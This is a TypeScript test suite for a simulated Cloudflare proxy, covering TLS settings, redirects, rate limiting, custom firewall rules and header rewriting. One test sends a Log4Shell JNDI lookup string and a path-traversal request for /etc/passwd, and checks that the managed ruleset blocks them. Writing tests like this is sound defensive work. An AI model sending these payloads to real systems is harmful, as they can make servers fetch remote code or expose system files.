import { readFileSync } from "node:fs";
import { type IncomingMessage, type RequestListener, createServer } from "node:http";
import { createServer as createSecureServer, request } from "node:https";
import type { AddressInfo } from "node:net";
import { cloudflare } from "../../../../rehearsal/cloud/cloudflare/service";
import type { Peer } from "../../../../rehearsal/cloud/kernel/ports";
import type { Properties } from "../../../../rehearsal/cloud/kernel/properties";
import { faultsOf } from "../../../../rehearsal/cloud/kernel/validation";
import { Declared, temporaryWorld } from "../../../support/declared";
import { visit } from "../../../support/viewer";

const zoneId = "023e105f4ecef8ad9ca31a8372d0c353";
const HOST = "app.harbor.example";
const TARGET = "d123.cloudfront.net";
let declared: Declared;
let closing: (() => Promise<void> | void)[];
let asked: IncomingMessage[];
let answer: RequestListener;

/** What the proxied name leads to, with a certificate for `name`. */
async function origin(name: string): Promise<void> {
  const { world } = declared;
  const identity = await world.authority.issue([name]);
  const listener: RequestListener = (incoming, outgoing) => {
    asked.push(incoming);
    answer(incoming, outgoing);
  };
  const secure = createSecureServer({ cert: identity.certificate, key: identity.key }, listener);
  const plain = createServer(listener);
  for (const [port, server] of [
    [443, secure],
    [80, plain],
  ] as const) {
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    const { port: free } = server.address() as AddressInfo;
    closing.push(
      world.names.serve(TARGET, port, { address: "127.0.0.1", port: free }),
      () => server.closeAllConnections(),
      () => new Promise<void>((resolve) => server.close(() => resolve())),
    );
  }
}

const setting = (settingId: string, value: string): Promise<unknown> =>
  declared.create("ZoneSetting", { zoneId, settingId, value });
const ruleset = (phase: string, rules: Properties[]): Promise<{ id: string }> =>
  declared.create("Ruleset", { zoneId, kind: "zone", name: phase, phase, rules });
const get = (path: string, headers: Record<string, string> = {}): ReturnType<typeof visit> =>
  visit(declared.world, `https://${HOST}${path}`, { headers });

beforeEach(async () => {
  const { world, remove } = await temporaryWorld();
  const service = cloudflare(world);
  declared = new Declared(world, [service]);
  asked = [];
  answer = (_, outgoing) => outgoing.end("from the origin");
  closing = [() => service.stop?.(), remove];
  const record = { zoneId, name: HOST, type: "CNAME", content: TARGET, ttl: 1, proxied: true };
  await declared.create("DnsRecord", record);
});
afterEach(async () => {
  for (const close of closing) await close();
});

describe("a proxied name", () => {
  it("leads to Cloudflare, which goes on under the same name, by TLS, and tells who asked", async () => {
    await origin(HOST);
    expect(declared.world.names.canonical(HOST)).toBe(HOST);
    const spoofed = { "x-forwarded-for": "203.0.113.9", "cf-connecting-ip": "203.0.113.9" };
    expect(await get("/a?b=1", spoofed)).toMatchObject({
      status: 200,
      text: "from the origin",
      headers: { server: "cloudflare", "cf-cache-status": "DYNAMIC" },
    });
    expect(asked[0]?.url).toBe("/a?b=1");
    expect(asked[0]?.headers).toMatchObject({
      host: HOST,
      "cf-connecting-ip": "127.0.0.1",
      "x-forwarded-for": "203.0.113.9, 127.0.0.1",
      "x-forwarded-proto": "https",
    });
  });

  it("passes bodies both ways", async () => {
    await origin(HOST);
    answer = (incoming, outgoing) => void incoming.pipe(outgoing);
    const body = "x".repeat(200_000);
    const { text } = await visit(declared.world, `https://${HOST}/`, { method: "POST", body });
    expect(text).toBe(body);
  });

  it("verifies the origin's certificate when the zone is strict, and only then", async () => {
    await origin("other.example");
    expect((await get("/")).status).toBe(200);
    await setting("ssl", "strict");
    expect((await get("/")).status).toBe(526);
    expect(declared.world.events.since(0).map(({ kind }) => kind)).toContain("origin-failed");
  });

  it("answers by itself when the origin does not", async () => {
    expect((await get("/")).status).toBe(530);
    declared.world.names.serve(TARGET, 443, { address: "127.0.0.1", port: 1 });
    expect((await get("/")).status).toBe(521);
  });

  it("waits in vain for what lets only others in", async () => {
    const asked: Peer[] = [];
    const admits = (from: Peer): boolean => asked.push(from) > 1;
    declared.world.names.serve(TARGET, 443, { address: "127.0.0.1", port: 1 }, admits);
    // In Cloudflare's own words a connection that timed out; the second attempt is let in, to where nobody listens.
    expect([(await get("/")).status, (await get("/")).status]).toEqual([522, 521]);
    expect(asked).toEqual(["internet", "internet"]);
  });

  it("sends HTTP to HTTPS where the zone says so", async () => {
    await origin(HOST);
    const plain = (): ReturnType<typeof visit> => visit(declared.world, `http://${HOST}/a?b=1`);
    expect((await plain()).status).toBe(200);
    await setting("always_use_https", "on");
    expect(await plain()).toMatchObject({ status: 301, headers: { location: `https://${HOST}/a?b=1` } });
  });

  it("takes no TLS below the zone's minimum", async () => {
    await origin(HOST);
    const endpoint = declared.world.names.resolve(HOST, 443);
    const ca = readFileSync(declared.world.authority.certificateFile);
    const withTls12 = (): Promise<number | undefined> =>
      new Promise((resolve, reject) => {
        const to = {
          host: endpoint?.address,
          port: endpoint?.port,
          servername: HOST,
          headers: { host: HOST },
        };
        request({ ...to, ca, maxVersion: "TLSv1.2" }, (incoming) => {
          incoming.resume();
          resolve(incoming.statusCode);
        })
          .on("error", reject)
          .end();
      });
    await setting("min_tls_version", "1.2");
    expect(await withTls12()).toBe(200);
    await setting("min_tls_version", "1.3");
    await expect(withTls12()).rejects.toThrow(/socket hang up|ECONNRESET/);
    expect((await get("/")).status).toBe(200);
  });

  it("ends with its record", async () => {
    const dns = declared.world.store.collection<{ id: string }>("cloudflare.dnsRecords");
    for (const { id } of dns.values()) await declared.delete("DnsRecord", id);
    expect(declared.world.names.resolve(HOST, 443)).toBeUndefined();
  });
});

describe("the zone's rules", () => {
  const api = 'starts_with(http.request.uri.path, "/api/")';
  const limited = (requestsPerPeriod: number): Properties => ({
    ref: "api",
    expression: api,
    action: "block",
    actionParameters: { response: { statusCode: 429, contentType: "application/json", content: "{}" } },
    ratelimit: {
      characteristics: ["cf.colo.id", "ip.src"],
      period: 60,
      requestsPerPeriod,
      mitigationTimeout: 60,
    },
  });
  beforeEach(() => origin(HOST));

  it("limit one address to its rate and leave everything else alone", async () => {
    await ruleset("http_ratelimit", [limited(20)]);
    const statuses: number[] = [];
    for (let count = 0; count < 30; count += 1) statuses.push((await get(`/api/q?${count}`)).status);
    // One more, should a minute begin in between: the window slides.
    expect([20, 21]).toContain(statuses.filter((status) => status === 200).length);
    expect(statuses.slice(22).every((status) => status === 429)).toBe(true);
    expect(asked.length).toBe(statuses.filter((status) => status === 200).length);
    expect((await get("/page")).status).toBe(200);
    expect(declared.world.events.since(0).at(-1)).toMatchObject({
      kind: "request-blocked",
      detail: { phase: "http_ratelimit", rule: "api" },
    });
  });

  it("leave a load below the limit untouched", async () => {
    await ruleset("http_ratelimit", [limited(1_000)]);
    const answers = await Promise.all(Array.from({ length: 200 }, (_, count) => get(`/api/q?${count}`)));
    expect(answers.every(({ status }) => status === 200)).toBe(true);
  });

  it("serve a narrow name's paths and refuse the others", async () => {
    const response = {
      statusCode: 404,
      contentType: "application/json",
      content: '{"error":"no page here"}',
    };
    await ruleset("http_request_firewall_custom", [
      {
        expression: `(http.host eq "${HOST}" and not ${api})`,
        action: "block",
        actionParameters: { response },
      },
    ]);
    expect((await get("/api/q")).status).toBe(200);
    expect(await get("/")).toMatchObject({ status: 404, text: '{"error":"no page here"}' });
  });

  it("set a header that no viewer can bring along", async () => {
    const headers = { "x-edge-secret": { operation: "set", value: "ours" } };
    await ruleset("http_request_late_transform", [
      { expression: "true", action: "rewrite", actionParameters: { headers } },
    ]);
    await get("/", { "x-edge-secret": "guessed" });
    expect(asked[0]?.headers["x-edge-secret"]).toBe("ours");
  });

  it("stop known attacks where a managed ruleset is executed", async () => {
    await ruleset("http_request_firewall_managed", [
      {
        expression: "true",
        action: "execute",
        actionParameters: { id: "efb7b8c949ac4650a09736fc376e9aee" },
      },
    ]);
    expect((await get("/", { "user-agent": "${jndi:ldap://203.0.113.9/a}" })).status).toBe(403);
    expect((await get("/?file=..%2f..%2fetc%2fpasswd")).status).toBe(403);
    expect((await get("/?q=plain")).status).toBe(200);
  });

  it("say that nothing is cached here", async () => {
    await ruleset("http_request_cache_settings", [
      { expression: "true", action: "set_cache_settings", actionParameters: { cache: false } },
    ]);
    expect((await get("/")).headers["cf-cache-status"]).toBe("BYPASS");
  });

  it("are one set per phase, replaced as a whole, and end with their ruleset", async () => {
    const { id } = await ruleset("http_ratelimit", [limited(1)]);
    await expect(ruleset("http_ratelimit", [limited(2)])).rejects.toThrow(/^20217: .*http_ratelimit/);
    const statuses = async (): Promise<number[]> => [
      (await get("/api/")).status,
      (await get("/api/")).status,
    ];
    expect(await statuses()).toEqual([200, 429]);
    const common = { zoneId, kind: "zone", name: "http_ratelimit", phase: "http_ratelimit" };
    await declared.update(
      "Ruleset",
      id,
      { ...common, rules: [limited(100)] },
      { ...common, rules: [limited(1)] },
    );
    expect(await statuses()).toEqual([200, 200]);
    await declared.delete("Ruleset", id);
    expect(await statuses()).toEqual([200, 200]);
  });

  it("are refused where they are not modelled, by name", () => {
    const faults = (phase: string, rule: Properties): string =>
      faultsOf(declared.model("Ruleset"), { zoneId, kind: "zone", name: "n", phase, rules: [rule] })
        .map(({ property, reason }) => `${property} ${reason}`)
        .join("\n");
    expect(faults("http_request_origin", {})).toMatch(/phase/);
    expect(faults("http_ratelimit", { ...limited(1), expression: "cf.bot_management.score lt 30" })).toMatch(
      /rules.0.expression the expression .* is not understood at cf.bot_management.score/,
    );
    const execute = { expression: "true", action: "execute", actionParameters: { id: "0".repeat(32) } };
    expect(faults("http_request_firewall_managed", execute)).toMatch(/no managed ruleset that is modelled/);
  });
});
